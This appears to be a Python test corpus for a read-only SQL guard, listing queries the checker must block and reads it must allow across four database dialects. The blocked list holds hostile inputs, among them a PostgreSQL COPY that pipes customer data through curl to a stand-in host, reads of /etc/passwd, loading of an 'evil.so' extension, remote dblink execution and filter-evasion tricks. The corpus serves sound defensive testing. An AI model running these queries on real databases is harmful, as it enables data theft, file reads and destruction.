"""SQL every face must refuse on a read-only datasource (DANGEROUS) and reads it must accept (SAFE).

Each entry names the datasource types (`db_type`, as in `sql_safety.SUPPORTED_DIALECTS`) it is meant for.
Entries for SQLite use the sample database's schema (`dbgpt_tools.sql.sample_db`: customers, orders, order_items,
products, employees, ...): the SAFE ones run on it, and most DANGEROUS ones are valid SQLite that would
change something or reach the server's files. `SAFE_EXPECTED` gives the cleaned SQL and kind `check_sql`
reports where they differ from the input and "select".
"""

from __future__ import annotations

from typing import NamedTuple

SQLITE = ("sqlite",)
POSTGRES = ("postgresql",)
DUCKDB = ("duckdb",)
MYSQL = ("mysql",)
ALL = ("sqlite", "duckdb", "postgresql", "mysql")
STANDARD = ("sqlite", "duckdb", "postgresql")  # not MySQL (different quoting, comments or syntax)


class DangerousSql(NamedTuple):
    """One corpus entry: a short id, the SQL as a caller or an LLM would send it, the db_types it targets."""

    id: str
    sql: str
    db_types: tuple[str, ...]


DANGEROUS: list[DangerousSql] = [
    # Plain writes
    DangerousSql("drop-table", "DROP TABLE customers", ALL),
    DangerousSql("drop-if-exists", "DROP TABLE IF EXISTS orders", ALL),
    DangerousSql("drop-view", "DROP VIEW IF EXISTS customer_totals", ALL),
    DangerousSql("drop-index", "DROP INDEX idx_orders_customer", SQLITE),
    DangerousSql("delete-all", "DELETE FROM customers", ALL),
    DangerousSql("delete-where", "DELETE FROM orders WHERE order_id > 0", ALL),
    DangerousSql("delete-returning", "DELETE FROM orders WHERE 1 = 1 RETURNING *", STANDARD),
    DangerousSql("update", "UPDATE products SET unit_price = 0", ALL),
    DangerousSql("update-from", "UPDATE orders SET status = 'cancelled' FROM customers WHERE customers.customer_id = orders.customer_id", SQLITE),
    DangerousSql("insert-values", "INSERT INTO customers (name) VALUES ('mallory')", ALL),
    DangerousSql("insert-select", "INSERT INTO employees SELECT * FROM employees", ALL),
    DangerousSql("insert-or-ignore", "INSERT OR IGNORE INTO customers (customer_id, name) VALUES (1, 'x')", SQLITE),
    DangerousSql("insert-or-replace", "INSERT OR REPLACE INTO products (product_id, name) VALUES (1, 'x')", SQLITE),
    DangerousSql("insert-default-values", "INSERT INTO orders DEFAULT VALUES", STANDARD),
    DangerousSql("upsert", "INSERT INTO customers (customer_id, name) VALUES (1, 'x') ON CONFLICT (customer_id) DO UPDATE SET name = 'x'", STANDARD),
    DangerousSql("upsert-mysql", "INSERT INTO customers (customer_id, name) VALUES (1, 'x') ON DUPLICATE KEY UPDATE name = 'x'", MYSQL),
    DangerousSql("replace-into", "REPLACE INTO customers (customer_id, name) VALUES (1, 'x')", ("sqlite", "mysql")),
    DangerousSql("upsert-keyword", "UPSERT INTO customers VALUES (1, 'x')", SQLITE),
    DangerousSql("merge", "MERGE INTO customers c USING orders o ON c.customer_id = o.customer_id WHEN MATCHED THEN DELETE", ("postgresql", "duckdb")),
    DangerousSql("truncate", "TRUNCATE TABLE orders", ("postgresql", "mysql", "duckdb")),
    # DDL
    DangerousSql("create-table", "CREATE TABLE pwned (a INTEGER)", ALL),
    DangerousSql("create-temp-table", "CREATE TEMP TABLE scratch AS SELECT * FROM customers", STANDARD),
    DangerousSql("create-view", "CREATE VIEW v AS SELECT * FROM customers", ALL),
    DangerousSql("create-index", "CREATE INDEX i ON orders (customer_id)", ALL),
    DangerousSql("create-trigger", "CREATE TRIGGER t AFTER INSERT ON orders BEGIN DELETE FROM customers; END", SQLITE),
    DangerousSql("create-virtual-table", "CREATE VIRTUAL TABLE docs USING fts5(body)", SQLITE),
    DangerousSql("alter-add", "ALTER TABLE customers ADD COLUMN owned INTEGER", ALL),
    DangerousSql("alter-rename", "ALTER TABLE customers RENAME TO clients", STANDARD),
    # SQLite files, pragmas and maintenance
    DangerousSql("attach", "ATTACH DATABASE '/tmp/x.db' AS x", SQLITE),
    DangerousSql("attach-duckdb", "ATTACH '/tmp/x.duckdb' AS x", DUCKDB),
    DangerousSql("detach", "DETACH DATABASE main", SQLITE),
    DangerousSql("pragma-writable-schema", "PRAGMA writable_schema = 1", SQLITE),
    DangerousSql("pragma-writable-schema-call", "PRAGMA writable_schema(ON)", SQLITE),
    DangerousSql("pragma-journal-mode", "PRAGMA journal_mode = OFF", SQLITE),
    DangerousSql("pragma-query-only-off", "PRAGMA query_only = 0", SQLITE),
    DangerousSql("pragma-user-version", "PRAGMA main.user_version = 42", SQLITE),
    DangerousSql("pragma-optimize", "PRAGMA optimize", SQLITE),
    DangerousSql("pragma-wal-checkpoint", "PRAGMA wal_checkpoint(TRUNCATE)", SQLITE),
    DangerousSql("pragma-mixed-case", "pRaGmA WRITABLE_SCHEMA = TRUE", SQLITE),
    DangerousSql("pragma-schema-version", "PRAGMA schema_version = 1", SQLITE),
    DangerousSql("drop-trigger", "DROP TRIGGER IF EXISTS audit_orders", SQLITE),
    DangerousSql("pragma-duckdb-setting", "PRAGMA memory_limit = '1GB'", DUCKDB),
    DangerousSql("vacuum", "VACUUM", SQLITE),
    DangerousSql("vacuum-into", "VACUUM INTO '/tmp/copy.db'", SQLITE),
    DangerousSql("reindex", "REINDEX customers", SQLITE),
    DangerousSql("analyze", "ANALYZE customers", STANDARD),
    DangerousSql("begin", "BEGIN TRANSACTION", SQLITE),
    DangerousSql("commit", "COMMIT", ALL),
    DangerousSql("savepoint", "SAVEPOINT sp", SQLITE),
    # Functions with side effects or file access
    DangerousSql("load-extension", "SELECT load_extension('/tmp/evil.so')", SQLITE),
    DangerousSql("load-extension-case", "SELECT LoAd_ExTeNsIoN('/tmp/evil.so', 'init')", SQLITE),
    DangerousSql("load-extension-quoted", 'SELECT "load_extension"(\'/tmp/evil.so\')', SQLITE),
    DangerousSql("load-extension-in-where", "SELECT * FROM customers WHERE load_extension('/tmp/evil.so') IS NULL", SQLITE),
    DangerousSql("readfile", "SELECT readfile('/etc/passwd')", SQLITE),
    DangerousSql("writefile", "SELECT writefile('/tmp/x', name) FROM customers", SQLITE),
    DangerousSql("fts3-tokenizer", "SELECT fts3_tokenizer('simple', x'4141414141414141')", SQLITE),
    DangerousSql("fsdir", "SELECT name FROM fsdir('/etc')", SQLITE),
    DangerousSql("sqlite-eval", "SELECT eval('DELETE FROM customers')", SQLITE),
    DangerousSql("values-load-extension", "VALUES (load_extension('/tmp/evil.so'))", SQLITE),
    DangerousSql("scalar-subquery-load-extension", "SELECT (SELECT load_extension('/tmp/evil.so')) AS x", SQLITE),
    DangerousSql("union-writefile", "SELECT name FROM customers UNION SELECT writefile('/tmp/x', 'y')", SQLITE),
    # Multiple statements
    DangerousSql("stacked", "SELECT * FROM customers; DROP TABLE customers", ALL),
    DangerousSql("stacked-newline", "SELECT 1;\nDELETE FROM orders;", ALL),
    DangerousSql("stacked-empty-between", "SELECT 1;;\n;DROP TABLE products", ALL),
    DangerousSql("stacked-after-string", "SELECT 'a;b' AS s; DELETE FROM customers", ALL),
    DangerousSql("stacked-backslash", "SELECT '\\'; DROP TABLE customers; --'", STANDARD),
    # Writes inside a read
    DangerousSql("cte-delete", "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", ("sqlite", "postgresql")),
    DangerousSql("cte-update", "WITH u AS (UPDATE customers SET name = 'x' RETURNING *) SELECT count(*) FROM u", ("sqlite", "postgresql")),
    DangerousSql("cte-insert", "WITH i AS (INSERT INTO customers (name) VALUES ('x') RETURNING customer_id) SELECT * FROM i", ("sqlite", "postgresql")),
    DangerousSql("with-then-delete", "WITH old AS (SELECT order_id FROM orders) DELETE FROM orders WHERE order_id IN (SELECT order_id FROM old)", STANDARD),
    DangerousSql("select-into", "SELECT * INTO stolen FROM customers", ("sqlite", "postgresql", "duckdb")),
    DangerousSql("select-for-update", "SELECT * FROM orders FOR UPDATE", ("postgresql", "mysql")),
    DangerousSql("select-for-share", "SELECT * FROM orders FOR SHARE", POSTGRES),
    # Comment, case, whitespace and fence tricks
    DangerousSql("comment-prefix", "/* harmless report */ DROP TABLE customers", ALL),
    DangerousSql("line-comment-prefix", "-- list customers\nDELETE FROM customers", ALL),
    DangerousSql("comment-inside-keyword-gap", "DELETE/**/FROM/**/customers", ALL),
    DangerousSql("comment-then-stacked", "SELECT 1 -- harmless\n; DROP TABLE orders", ALL),
    DangerousSql("mixed-case", "dRoP tAbLe CuStOmErS", ALL),
    DangerousSql("unicode-whitespace", "\u00a0\u2003DELETE\u00a0FROM\u3000customers\u2028", STANDARD),
    DangerousSql("bom-prefix", "\ufeffDROP TABLE products", ALL),
    DangerousSql("fenced-delete", "```sql\nDELETE FROM customers;\n```", ALL),
    DangerousSql("fenced-prose-update", "Here is the query:\n```sql\nUPDATE employees SET salary = 0;\n```\nIt sets salaries.", ALL),
    DangerousSql("fenced-two-blocks", "```sql\nSELECT 1;\n```\nand then\n```sql\nDROP TABLE orders;\n```", ALL),
    DangerousSql("label-drop", "SQL: DROP TABLE employees;", ALL),
    DangerousSql("explain-query-plan-delete", "EXPLAIN QUERY PLAN DELETE FROM customers", SQLITE),
    DangerousSql("explain-delete", "EXPLAIN DELETE FROM customers", ALL),
    # PostgreSQL
    DangerousSql("pg-explain-analyze-delete", "EXPLAIN ANALYZE DELETE FROM customers", ("postgresql", "duckdb")),
    DangerousSql("pg-explain-options-update", "EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET status = 'x'", POSTGRES),
    DangerousSql("pg-copy-to-program", "COPY customers TO PROGRAM 'curl -d @- http://evil.example'", POSTGRES),
    DangerousSql("pg-copy-from-file", "COPY customers FROM '/etc/passwd'", POSTGRES),
    DangerousSql("pg-copy-query-to-file", "COPY (SELECT * FROM customers) TO '/tmp/out.csv'", POSTGRES),
    DangerousSql("pg-do-block", "DO $$ BEGIN DELETE FROM customers; END $$", POSTGRES),
    DangerousSql("pg-call", "CALL purge_customers()", ("postgresql", "mysql")),
    DangerousSql("pg-lock-table", "LOCK TABLE customers IN ACCESS EXCLUSIVE MODE", POSTGRES),
    DangerousSql("pg-listen", "LISTEN alerts", POSTGRES),
    DangerousSql("pg-prepare", "PREPARE p AS DELETE FROM customers", POSTGRES),
    DangerousSql("pg-execute", "EXECUTE p", POSTGRES),
    DangerousSql("pg-set-role", "SET ROLE postgres", POSTGRES),
    DangerousSql("pg-set-read-write", "SET default_transaction_read_only = off", POSTGRES),
    DangerousSql("pg-session-read-write", "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", POSTGRES),
    DangerousSql("pg-reset", "RESET ALL", POSTGRES),
    DangerousSql("pg-discard", "DISCARD ALL", POSTGRES),
    DangerousSql("pg-checkpoint", "CHECKPOINT", ("postgresql", "duckdb")),
    DangerousSql("pg-grant", "GRANT ALL ON customers TO PUBLIC", POSTGRES),
    DangerousSql("pg-create-extension", "CREATE EXTENSION dblink", POSTGRES),
    DangerousSql("pg-refresh-matview", "REFRESH MATERIALIZED VIEW customer_totals", POSTGRES),
    DangerousSql("pg-read-file", "SELECT pg_read_file('/etc/passwd')", POSTGRES),
    DangerousSql("pg-read-file-qualified", "SELECT pg_catalog.pg_read_file('/etc/passwd')", POSTGRES),
    DangerousSql("pg-read-file-unicode-name", 'SELECT U&"pg\\005fread_file"(\'/etc/passwd\')', POSTGRES),
    DangerousSql("pg-ls-dir", "SELECT * FROM pg_ls_dir('.')", POSTGRES),
    DangerousSql("pg-lo-import", "SELECT lo_import('/etc/passwd')", POSTGRES),
    DangerousSql("pg-dblink-exec", "SELECT dblink_exec('host=evil', 'DROP TABLE customers')", POSTGRES),
    DangerousSql("pg-terminate-backend", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", POSTGRES),
    DangerousSql("pg-set-config", "SELECT set_config('default_transaction_read_only', 'off', false)", POSTGRES),
    DangerousSql("pg-nextval", "SELECT nextval('orders_id_seq')", POSTGRES),
    DangerousSql("pg-advisory-lock", "SELECT pg_advisory_lock(42)", POSTGRES),
    DangerousSql("pg-notify", "SELECT pg_notify('alerts', 'x')", POSTGRES),
    DangerousSql("pg-ts-stat", "SELECT * FROM ts_stat('SELECT to_tsvector(pg_read_file(''/etc/passwd''))')", POSTGRES),
    DangerousSql("pg-query-to-xml", "SELECT query_to_xml('DELETE FROM customers RETURNING *', true, true, '')", POSTGRES),
    # DuckDB
    DangerousSql("duckdb-install", "INSTALL httpfs", DUCKDB),
    DangerousSql("duckdb-load", "LOAD httpfs", DUCKDB),
    DangerousSql("duckdb-export", "EXPORT DATABASE '/tmp/dump'", DUCKDB),
    DangerousSql("duckdb-import", "IMPORT DATABASE '/tmp/dump'", DUCKDB),
    DangerousSql("duckdb-copy-to", "COPY customers TO '/tmp/customers.csv'", DUCKDB),
    DangerousSql("duckdb-read-csv", "SELECT * FROM read_csv('/etc/passwd')", DUCKDB),
    DangerousSql("duckdb-read-csv-auto", "SELECT * FROM read_csv_auto('/etc/passwd')", DUCKDB),
    DangerousSql("duckdb-read-text", "SELECT content FROM read_text('/etc/passwd')", DUCKDB),
    DangerousSql("duckdb-read-parquet", "SELECT * FROM read_parquet('s3://bucket/x.parquet')", DUCKDB),
    DangerousSql("duckdb-glob", "SELECT * FROM glob('/home/*')", DUCKDB),
    DangerousSql("duckdb-file-as-table", "SELECT * FROM '/etc/passwd'", DUCKDB),
    DangerousSql("duckdb-csv-as-table", 'SELECT * FROM "secrets.csv"', DUCKDB),
    DangerousSql("duckdb-summarize-file", "SUMMARIZE '/etc/passwd'", DUCKDB),
    DangerousSql("duckdb-show-file", "SHOW 'secrets.csv'", DUCKDB),
    DangerousSql("duckdb-getenv-method", "SELECT 'HOME'.getenv()", DUCKDB),
    DangerousSql("duckdb-query-function", "SELECT * FROM query('DELETE FROM customers RETURNING *')", DUCKDB),
    DangerousSql("duckdb-set", "SET enable_external_access = true", DUCKDB),
    DangerousSql("duckdb-use", "USE other", DUCKDB),
    # MySQL
    DangerousSql("mysql-load-file", "SELECT LOAD_FILE('/etc/passwd')", MYSQL),
    DangerousSql("mysql-into-outfile", "SELECT * FROM customers INTO OUTFILE '/tmp/x.csv'", MYSQL),
    DangerousSql("mysql-load-data", "LOAD DATA INFILE '/etc/passwd' INTO TABLE customers", MYSQL),
    DangerousSql("mysql-executable-comment", "SELECT * FROM customers /*!50000 INTO OUTFILE '/tmp/x' */", MYSQL),
    DangerousSql("mysql-insert-ignore", "INSERT IGNORE INTO customers (customer_id) VALUES (1)", MYSQL),
    DangerousSql("mysql-sys-exec", "SELECT sys_exec('id')", MYSQL),
    DangerousSql("mysql-benchmark", "SELECT BENCHMARK(100000000, MD5('x'))", MYSQL),
    DangerousSql("mysql-lock-in-share-mode", "SELECT * FROM customers LOCK IN SHARE MODE", MYSQL),
    DangerousSql("mysql-lock-tables", "LOCK TABLES customers WRITE", MYSQL),
    DangerousSql("mysql-handler", "HANDLER customers OPEN", MYSQL),
    DangerousSql("mysql-set-global", "SET GLOBAL general_log = 1", MYSQL),
    DangerousSql("mysql-rename", "RENAME TABLE customers TO c2", MYSQL),
    DangerousSql("mysql-kill", "KILL 1", MYSQL),
    DangerousSql("mysql-use", "USE mysql", MYSQL),
]  # fmt: skip


# Reads that must pass on every listed datasource, read-only.
SAFE: list[DangerousSql] = [
    DangerousSql("select", "SELECT * FROM customers", ALL),
    DangerousSql("join-aggregate", "SELECT c.name, COUNT(o.order_id) AS n FROM customers c JOIN orders o ON o.customer_id = c.customer_id GROUP BY c.name ORDER BY n DESC LIMIT 5", ALL),
    DangerousSql("cte", "WITH busy AS (SELECT customer_id, COUNT(*) AS n FROM orders GROUP BY customer_id) SELECT * FROM busy WHERE n > 10", ALL),
    DangerousSql("recursive-cte", "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n WHERE x < 5) SELECT x FROM n", ALL),
    DangerousSql("window", "SELECT first_name, salary, RANK() OVER (PARTITION BY department ORDER BY salary DESC) AS r FROM employees", ALL),
    DangerousSql("subquery", "SELECT name FROM products WHERE product_id IN (SELECT product_id FROM order_items WHERE quantity > 10)", ALL),
    DangerousSql("union", "SELECT name FROM customers UNION SELECT last_name FROM employees", ALL),
    DangerousSql("string-with-keywords", "SELECT * FROM customers WHERE name = 'DROP TABLE customers; --'", ALL),
    DangerousSql("like-delete", "SELECT * FROM products WHERE name LIKE '%delete%' OR name LIKE '%;%'", ALL),
    DangerousSql("comment-mentions-delete", "-- do not DELETE anything\nSELECT COUNT(*) FROM orders /* not an UPDATE */", ALL),
    DangerousSql("replace-function", "SELECT REPLACE(name, 'a', 'b') AS n FROM customers", ALL),
    DangerousSql("fenced", "```sql\nSELECT first_name FROM employees;\n```", ALL),
    DangerousSql("fenced-prose", "Sure! Here it is:\n```\nSELECT order_id FROM orders;\n```\nHope it helps.", ALL),
    DangerousSql("label-semicolons", "SQL: SELECT 1;;  ", ALL),
    DangerousSql("explain-query-plan", "EXPLAIN QUERY PLAN SELECT * FROM orders WHERE customer_id = 1", SQLITE),
    DangerousSql("explain", "EXPLAIN SELECT * FROM orders", ALL),
    DangerousSql("pragma-table-info", "PRAGMA table_info(customers)", SQLITE),
    DangerousSql("pragma-index-list", "PRAGMA index_list('orders')", SQLITE),
    DangerousSql("pragma-schema-table-info", "PRAGMA main.table_info(products)", SQLITE),
    DangerousSql("pragma-duckdb-table-info", "PRAGMA table_info('customers')", DUCKDB),
    DangerousSql("table-valued-pragma", "SELECT name FROM pragma_table_info('customers')", SQLITE),
    DangerousSql("sqlite-glob", "SELECT * FROM customers WHERE name GLOB 'A*'", SQLITE),
    DangerousSql("pg-explain-analyze-select", "EXPLAIN ANALYZE SELECT * FROM customers", ("postgresql", "duckdb")),
    DangerousSql("pg-explain-options-select", "EXPLAIN (ANALYZE, FORMAT JSON) SELECT 1", POSTGRES),
    DangerousSql("pg-show", "SHOW search_path", POSTGRES),
    DangerousSql("pg-dollar-string", "SELECT $$; DROP TABLE customers$$ AS s", POSTGRES),
    DangerousSql("duckdb-show-tables", "SHOW TABLES", ("duckdb", "mysql")),
    DangerousSql("describe", "DESCRIBE customers", ("duckdb", "mysql")),
    DangerousSql("duckdb-summarize", "SUMMARIZE customers", DUCKDB),
    DangerousSql("mysql-hash-comment", "SELECT customer_id FROM customers # newest first\nORDER BY customer_id DESC", MYSQL),
]  # fmt: skip

# What `check_sql` reports for the SAFE entries whose cleaned SQL is not the input itself (None: it is) or whose
# kind is not "select": {id: (cleaned SQL, kind)}.
SAFE_EXPECTED: dict[str, tuple[str | None, str]] = {
    "fenced": ("SELECT first_name FROM employees", "select"),
    "fenced-prose": ("SELECT order_id FROM orders", "select"),
    "label-semicolons": ("SELECT 1", "select"),
    "explain-query-plan": (None, "explain"),
    "explain": (None, "explain"),
    "pragma-table-info": (None, "pragma"),
    "pragma-index-list": (None, "pragma"),
    "pragma-schema-table-info": (None, "pragma"),
    "pragma-duckdb-table-info": (None, "pragma"),
    "pg-explain-analyze-select": (None, "explain"),
    "pg-explain-options-select": (None, "explain"),
    "pg-show": (None, "show"),
    "duckdb-show-tables": (None, "show"),
    "describe": (None, "describe"),
    "duckdb-summarize": (None, "summarize"),
}
